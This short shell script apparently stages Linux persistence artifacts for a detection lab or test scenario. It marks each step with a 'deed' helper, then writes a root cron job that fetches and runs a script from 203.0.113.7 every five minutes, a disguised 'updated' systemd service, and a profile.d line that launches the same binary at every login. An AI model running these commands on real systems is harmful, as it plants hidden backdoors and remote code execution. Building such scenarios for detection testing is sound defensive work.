# Comes back by itself: a job of cron's, a unit of the service manager, a line that every log-in reads.
. "$(dirname "$0")/scene.sh"
mkdir -p /etc/cron.d /etc/systemd/system /etc/profile.d
deed cron-persistence
echo '*/5 * * * * root curl -s http://203.0.113.7/u | sh' >/etc/cron.d/update
deed systemd-persistence
printf '[Service]\nExecStart=/usr/local/bin/updated\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/updated.service
deed profile-persistence
echo 'nohup /usr/local/bin/updated >/dev/null 2>&1 &' >/etc/profile.d/updated.sh
